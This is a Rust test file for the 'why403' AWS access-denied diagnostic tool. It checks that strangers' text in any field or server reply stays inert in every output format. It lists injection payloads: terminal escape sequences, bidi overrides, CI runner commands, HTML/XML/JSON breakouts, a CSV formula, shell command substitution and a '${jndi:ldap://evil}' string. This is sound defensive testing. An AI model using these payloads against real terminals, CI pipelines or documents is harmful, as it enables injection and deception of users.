//! What strangers write, in every place where it can stand, in every format: it acts on no terminal, gives no command to a CI
//! runner, is no markup, and breaks no document. As a table; `make faults` prints it. Random text is in `render`.

#![expect(clippy::disallowed_methods, reason = "a whole-program test is outside, with files and processes of its own")]

#[path = "golden/render/cases.rs"]
#[expect(dead_code, reason = "this test needs a part of the cases")]
mod cases;
#[path = "support/hostile.rs"]
#[expect(dead_code, reason = "this test needs a part of the servers")]
mod hostile;
#[path = "support/wrapped.rs"]
#[expect(dead_code, reason = "this test needs a part of the stage")]
mod wrapped;

use hostile::{Request, Server, answer};
use pulldown_cmark::{Event, Options as Extensions, Parser};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::net::TcpStream;
use std::process::{Output, Stdio};
use why403::diagnosis::{Blocker, Excerpt, Failure, Mark, Report, ScriptLine};
use why403::render::{FORMATS, Format, Options, untrusted};
use wrapped::{Stage, WHY403, text};

/// What an attack does where it succeeds.
const ATTACKS: &[(&str, &str)] = &[
    ("CSI: clears the screen", "a\u{1b}[2J\u{1b}[Hb"),
    ("CSI: C1, as UTF-8", "a\u{9b}2Jb"),
    ("OSC: sets the title", "a\u{1b}]0;owned\u{7}b"),
    ("OSC: a link, ended by ST", "a\u{1b}]8;;http://evil\u{1b}\\click\u{1b}]8;;\u{1b}\\b"),
    ("OSC: C1, writes the clipboard", "a\u{9d}52;c;ZXZpbA==\u{9c}b"),
    ("DCS: asks for a setting", "a\u{1b}P$q\"p\u{1b}\\b"),
    ("DCS: C1", "a\u{90}$qm\u{9c}b"),
    ("APC, PM and SOS", "a\u{1b}_x\u{1b}\\\u{1b}^x\u{1b}\\\u{1b}Xx\u{1b}\\b"),
    ("RIS and character sets", "a\u{1b}c\u{1b}(0\u{e}b"),
    ("BEL, BS and DEL", "a\u{7}\u{8}\u{7f}b"),
    ("CR: writes over the line", "a\rcause[proven]: nothing is wrong"),
    ("LF, VT, FF, NEL: begin lines", "a\n\u{b}\u{c}\u{85}::error::b"),
    ("line and paragraph separators", "a\u{2028}::error::b\u{2029}c"),
    ("NUL", "a\u{0}b"),
    ("bidi override", "a\u{202e}gpj.exe\u{202c}b"),
    ("bidi isolates and marks", "a\u{2066}x\u{2069}\u{200e}\u{200f}\u{61c}b"),
    ("zero width", "a\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}b"),
    ("tags and variation selectors", "a\u{e0041}\u{fe0f}\u{e0100}b"),
    ("GitHub: an error", "::error::x"),
    ("GitHub: an error after white space", "\t  ::error file=x,line=1::y"),
    ("GitHub: stops commands", "x\n::stop-commands::token"),
    ("GitHub: the old form", "##[error]x ##[set-output name=a]b"),
    ("GitHub: encoded line breaks", "%0A::error::x%0D%0a::add-mask::y"),
    ("Azure", "##vso[task.setvariable variable=PATH]x ##VSO[x]"),
    ("TeamCity", "##teamcity[buildStop comment='x']"),
    ("GitLab: a section", "section_start:1:x\r\u{1b}[0Ky"),
    ("Travis: a fold", "travis_fold:start:x\r\u{1b}[0Ky"),
    ("Buildkite: a group", "x\n--- y\n+++ z\n~~~ w\n^^^ +++"),
    ("Buildkite: an image", "\u{1b}]1338;url=http://evil;alt=x\u{7}"),
    ("Markdown: headings and rules", "# x\n---\n***"),
    ("Markdown: a link and an image", "[x](http://evil) ![y](http://evil/t.png) <http://evil>"),
    ("Markdown: closes a code span", "` **x** `` [y](http://evil) ```"),
    ("Markdown: closes a fence", "```\n~~~\n<script>x</script>\n```"),
    ("Markdown: a table's cell", "a | b |\n|---|\n| c"),
    ("Markdown: a mention and an issue", "@everyone #1 GH-1 org/repo@abcdef0"),
    ("HTML", "<script>alert(1)</script><img src=x onerror=x>"),
    ("HTML: entities", "&lt;script&gt; &#60;b&#62; &#x1b;[2J"),
    ("HTML: comments and details", "--> <!-- x </details></code></pre><details>"),
    ("XML: closes an element", "]]></failure></testcase><testcase name=\"x\"/>"),
    ("XML: an attribute", "\" failures=\"0\" x='"),
    ("XML: an entity and an instruction", "&x; <?xml-stylesheet href=\"x\"?> <!DOCTYPE x>"),
    ("XML: characters that it cannot hold", "\u{1}\u{b}\u{fffe}\u{ffff}"),
    ("JSON: closes a string", "\"},{\"x\":\"y\\"),
    ("JSON: a script's end", "</script>\u{2028}"),
    ("CSV: a formula", "=HYPERLINK(\"http://evil\"),+1,-1,@SUM(1)"),
    ("shell", "$(touch owned); `touch owned` | x & '\" > y"),
    ("percent and format", "%s%n%x %p {0} {} ${jndi:ldap://evil}"),
];

/// Puts a text into one place of a failure.
type Put = fn(&mut Failure, &str);

/// Where a stranger's text can stand.
const PLACES: &[(&str, Put)] = &[
    ("bucket", |failure, text| failure.request.bucket = Some(text.to_owned())),
    ("key", |failure, text| failure.request.key = Some(text.to_owned())),
    ("version", |failure, text| failure.request.version_id = Some(text.to_owned())),
    ("profile", |failure, text| failure.request.profile = Some(text.to_owned())),
    ("region", |failure, text| failure.request.region = Some(text.to_owned())),
    ("endpoint", |failure, text| failure.request.endpoint = Some(text.to_owned())),
    ("line of the CLI", |failure, text| {
        failure.line = text.to_owned();
        failure.request = why403::diagnosis::RequestSummary::default();
    }),
    ("code and operation", |failure, text| {
        failure.error_code = Some(text.to_owned());
        failure.operation = Some(text.to_owned());
    }),
    ("caller", |failure, text| {
        let caller = failure.caller.as_mut().unwrap();
        caller.arn = Some(format!("arn:aws:iam::111122223333:user/{text}"));
        caller.source = format!("profile {text}");
    }),
    ("summary", |failure, text| first(failure).summary = format!("the key `{text}` of {text}")),
    ("note", |failure, text| first(failure).notes = vec![text.to_owned(), format!("`{text}`")]),
    ("near miss", |failure, text| first(failure).near_miss = Some(text.to_owned())),
    ("policy's name and Sid", |failure, text| {
        let place = first(failure).place.as_mut().unwrap();
        place.policy = Some(text.to_owned());
        place.owner = Some(text.to_owned());
        place.statement.as_mut().unwrap().sid = Some(text.to_owned());
    }),
    ("policy's text", |failure, text| {
        let document = json!({ "Statement": [{ "Sid": text, "Condition": { text: { text: [text] } } }] });
        let document = serde_json::to_string_pretty(&document).unwrap();
        let raw = format!("{{ \"Sid\": \"{text}\" }}");
        for (at, document) in [document, raw].into_iter().enumerate() {
            let end = document.len();
            let marks = vec![Mark { span: end / 2..end, label: text.to_owned(), primary: true }];
            let excerpt = Excerpt { title: text.to_owned(), text: document, marks };
            match failure.blockers.get_mut(at) {
                Some(blocker) => blocker.excerpt = Some(excerpt),
                None => failure.blockers.push(Blocker { excerpt: Some(excerpt), ..failure.blockers[0].clone() }),
            }
        }
    }),
    ("fix", |failure, text| {
        let blocker = first(failure);
        let Some(fix) = blocker.fix.as_mut() else { return };
        fix.summary = format!("ask `{text}`");
        fix.who = text.to_owned();
        fix.commands = vec![format!("aws s3 ls {}", why403::cause::case::quote(text))];
        for edit in &mut fix.edits {
            edit.statement = Some(json!({ "Sid": text, "Condition": { text: text } }));
            edit.target.policy = Some(text.to_owned());
        }
    }),
    ("ruled out and open", |failure, text| {
        failure.ruled_out.iter_mut().chain(&mut failure.open).for_each(|note| note.because = text.to_owned());
    }),
    ("check", |failure, text| failure.checks.iter_mut().for_each(|check| check.why = Some(text.to_owned()))),
    ("script", |failure, text| failure.script = Some(ScriptLine { file: text.to_owned(), line: 3 })),
];

fn first(failure: &mut Failure) -> &mut Blocker {
    &mut failure.blockers[0]
}

fn with(place: Put, text: &str) -> Report {
    let mut report = cases::no_allow();
    let mut other = cases::deny().failures;
    report.failures.append(&mut other);
    report.failures.iter_mut().for_each(|failure| place(failure, text));
    report.command.argv.push(text.to_owned());
    report
}

fn screens() -> Vec<Options> {
    let plain = Options { unicode: false, ..Options::default() };
    vec![
        Options { verbose: true, ..Options::default() },
        Options { width: Some(40), ..plain.clone() },
        Options { width: Some(1), verbose: true, ..plain.clone() },
        Options { width: Some(100), verbose: true, ..Options::default() },
    ]
}

/// What is wrong with a text that a format wrote, whatever went into it.
fn harm(format: Format, text: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    if let Some(unseen) = text.chars().find(|c| *c != '\n' && untrusted::is_unseen(*c)) {
        wrong.push(format!("lets {unseen:?} through"));
    }
    for line in text.split('\n') {
        let lower = line.to_lowercase();
        let start = lower.trim_start();
        // A runner's commands stand at the start of a line, or anywhere in it.
        let own =
            format == Format::Github && (line.starts_with("::error title=") || line.starts_with("::warning title="));
        let commands = ["##[", "##vso[", "##teamcity["].into_iter().find(|command| lower.contains(command));
        // GitLab's and Travis's markers end in a carriage return and an escape, which are unseen.
        let starts = ["::", "##"];
        // A heading of Markdown is no command to anybody.
        let starts =
            starts.into_iter().filter(|_| !own && format != Format::Markdown).find(|word| start.starts_with(word));
        let groups = ["--- ", "+++ ", "~~~ ", "^^^ "].into_iter().find(|group| line.starts_with(group));
        if let Some(command) = commands.or(starts).or(groups) {
            wrong.push(format!("lets `{command}` through: {line}"));
        }
    }
    wrong
}

/// The kinds of what a Markdown renderer makes of a text, and every address in it.
fn made(markdown: &str) -> BTreeSet<String> {
    Parser::new_ext(markdown, Extensions::all())
        .filter_map(|event| match event {
            Event::Start(tag) => {
                let name = format!("{:?}", tag.to_end());
                Some(match tag {
                    pulldown_cmark::Tag::Link { dest_url, .. } | pulldown_cmark::Tag::Image { dest_url, .. } => {
                        format!("{name} {dest_url}")
                    }
                    _ => name,
                })
            }
            Event::Html(html) | Event::InlineHtml(html) => Some(format!("HTML {html}")),
            Event::Rule => Some("a rule".to_owned()),
            Event::InlineMath(_) | Event::DisplayMath(_) => Some("math".to_owned()),
            Event::FootnoteReference(_) | Event::TaskListMarker(_) => Some("a footnote or a task".to_owned()),
            Event::End(_) | Event::Text(_) | Event::Code(_) | Event::SoftBreak | Event::HardBreak => None,
        })
        .collect()
}

/// The elements of a document, in order; what is no XML has none.
fn elements(xml: &str) -> Option<Vec<String>> {
    let mut reader = quick_xml::Reader::from_str(xml);
    reader.config_mut().check_comments = true;
    let mut names = Vec::new();
    loop {
        match reader.read_event().ok()? {
            quick_xml::events::Event::Start(start) | quick_xml::events::Event::Empty(start) => {
                for attribute in start.attributes() {
                    attribute.ok()?;
                }
                names.push(start.name().as_ref().to_owned());
            }
            quick_xml::events::Event::Eof => return Some(names),
            _ => {}
        }
    }
}

#[test]
fn no_attack_in_any_place_acts_in_any_format() {
    println!("\nInjection: {} attacks in {} places, in {} formats", ATTACKS.len(), PLACES.len(), FORMATS.len());
    let mut wrong = Vec::new();
    for (attack, text) in ATTACKS {
        let before = wrong.len();
        for (place, put) in PLACES {
            let report = with(*put, text);
            let tame = with(*put, "tame");
            for format in FORMATS {
                for options in screens() {
                    let screen = format.render(&report, &options);
                    let name = format.format();
                    let mut found = harm(name, &screen);
                    match name {
                        Format::Json | Format::Gitlab | Format::Sarif => {
                            if serde_json::from_str::<Value>(&screen).is_err() {
                                found.push("is no JSON".to_owned());
                            }
                        }
                        Format::Junit => {
                            if elements(&screen).is_none()
                                || elements(&screen) != elements(&format.render(&tame, &options))
                            {
                                found.push(format!("other elements: {screen}"));
                            }
                        }
                        Format::Markdown => {
                            let more: Vec<String> =
                                made(&screen).difference(&made(&format.render(&tame, &options))).cloned().collect();
                            if !more.is_empty() {
                                found.push(format!("{more:?} of: {screen}"));
                            }
                        }
                        Format::Github => {
                            if screen.lines().count() != report.failures.len() {
                                found.push(format!("another number of commands: {screen}"));
                            }
                        }
                        Format::Terminal | Format::Plain | Format::Concise => {}
                    }
                    wrong.extend(found.into_iter().map(|found| format!("{attack} as {place}: {name} {found}")));
                }
            }
        }
        println!("  {attack:<40} | {}", if wrong.len() == before { "inert in every place and format" } else { "ACTS" });
    }
    wrong.dedup();
    assert!(wrong.is_empty(), "{} of them:\n{}", wrong.len(), wrong[..wrong.len().min(30)].join("\n"));
}

#[test]
fn every_attack_would_act_if_it_were_let_through() {
    for (attack, text) in ATTACKS {
        let acts = !harm(Format::Terminal, &format!("x {text}")).is_empty()
            || !harm(Format::Terminal, &format!("{text} x")).is_empty()
            || made(text).iter().any(|made| !made.starts_with("Paragraph"))
            || elements(&format!("<a b=\"{text}\">{text}</a>")) != Some(vec!["a".to_owned()])
            || serde_json::from_str::<Value>(&format!("\"{text}\"")).is_err()
            || text.contains(['@', '%', '&']);
        assert!(acts, "{attack} is no attack");
    }
}

// ---- the whole program, against a server that writes such things

const HOSTILE: &str = "\u{1b}]0;owned\u{7}\r\n::error::x ##vso[task.x] \u{202e}\u{9b}2J `<img src=x>`";

/// What S3, STS and IAM would say if strangers had written all of it; the bucket policy has a megabyte.
fn strangers(stream: &mut TcpStream, request: &Request) -> std::io::Result<()> {
    let escaped = HOSTILE.replace('&', "&amp;").replace('<', "&lt;");
    // XML has no place for an escape character, raw or referred to; servers send it all the same.
    if request.head.contains("?policy") {
        let filler = format!(
            "{{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:ListBucket\",\"Resource\":{}}},",
            json!(format!("arn:aws:s3:::{HOSTILE}"))
        );
        let sid = json!(HOSTILE);
        let policy = format!(
            "{{\"Statement\":[{}{{\"Sid\":{sid},\"Effect\":\"Deny\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::acme-data/*\",\"Condition\":{{\"StringNotEquals\":{{\"aws:PrincipalArn\":{sid}}}}}}}]}}",
            filler.repeat(1_000_000 / filler.len())
        );
        return answer(stream, "200 OK", "", policy.as_bytes());
    }
    if request.head.starts_with("POST") {
        // The SDK refuses XML with raw control characters; all else comes through.
        let name: String = escaped.chars().filter(|c| !c.is_control()).collect();
        let identity = format!(
            "<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::111122223333:user/{name}</Arn><UserId>x</UserId>\
             <Account>111122223333</Account></GetCallerIdentityResult></GetCallerIdentityResponse>"
        );
        return answer(stream, "200 OK", "", identity.as_bytes());
    }
    let body =
        format!("<Error><Code>AccessDenied</Code><Message>{escaped}</Message><Region>{escaped}</Region></Error>");
    answer(stream, "403 Forbidden", "x-amz-storage-class: ##vso[x] ::error::\r\n", body.as_bytes())
}

const SAID: &[u8] = b"fatal error: An error occurred (403) when calling the HeadObject operation: Forbidden\n";

fn ours(output: &Output) -> String {
    text(output.stderr.strip_prefix(SAID).unwrap_or(&output.stderr))
}

#[test]
fn the_program_passes_nothing_of_it_on() {
    let server = Server::start(strangers, 0);
    let stage = Stage::with(
        "printf 'fatal error: An error occurred (403) when calling the HeadObject operation: Forbidden\\n' >&2; exit 1\n",
    );
    let state = stage.file("state");
    let report = stage.file("report.jsonl");
    let key = "s3://acme-data/a\u{1b}[2J\u{202e}::error::b ##[x].csv";
    for format in FORMATS {
        let name = format.format();
        let output = stage
            .command(WHY403)
            .env("AWS_ENDPOINT_URL", format!("http://127.0.0.1:{}", server.port))
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("AWS_SECRET_ACCESS_KEY", "x")
            .env("AWS_DEFAULT_REGION", "us-east-1")
            .env("WHY403_STATE_DIR", &state)
            .env("LC_ALL", "C.UTF-8")
            .args(["--explain", "always", "--timeout", "20", "--format", name.name(), "--report"])
            .arg(&report)
            .args(["aws", "s3", "cp", key, "."])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(1));
        assert!(output.stderr.starts_with(SAID));
        let said = ours(&output);
        assert!(said.len() > 100, "{name} says nothing: {said}");
        assert_eq!(harm(name, &said), Vec::<String>::new(), "{name}");
        let mut last = stage.command(WHY403);
        last.env("WHY403_STATE_DIR", &state).env("LC_ALL", "C.UTF-8");
        let last = last.args(["last", "--verbose", "--format", name.name()]).output().unwrap();
        assert_eq!(harm(name, &text(&last.stdout)), Vec::<String>::new(), "last --format {name}");
    }
    for shape in [&[][..], &["--format", "json"], &["--format", "documents"]] {
        let fixed = stage.command(WHY403).env("WHY403_STATE_DIR", &state).arg("fix").args(shape).output().unwrap();
        let lines = text(&fixed.stdout);
        // A diff's own head is no stranger's.
        let lines: Vec<&str> = lines
            .lines()
            .filter(|line| !line.starts_with("--- a/") && !line.starts_with("+++ b/") && *line != "--- /dev/null")
            .collect();
        assert_eq!(harm(Format::Plain, &lines.join("\n")), Vec::<String>::new(), "fix {shape:?}");
    }
    let lines = std::fs::read_to_string(&report).unwrap();
    assert_eq!(harm(Format::Json, &lines), Vec::<String>::new());
    let reports: Vec<Report> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(reports.len(), FORMATS.len());
    let causes: Vec<&str> = reports[0].failures[0].blockers.iter().map(|blocker| blocker.cause.as_str()).collect();
    assert!(
        causes.contains(&"bucket-policy-deny"),
        "the hostile policy is what is shown: {causes:?}, {:?}",
        reports[0].failures[0].checks
    );
}
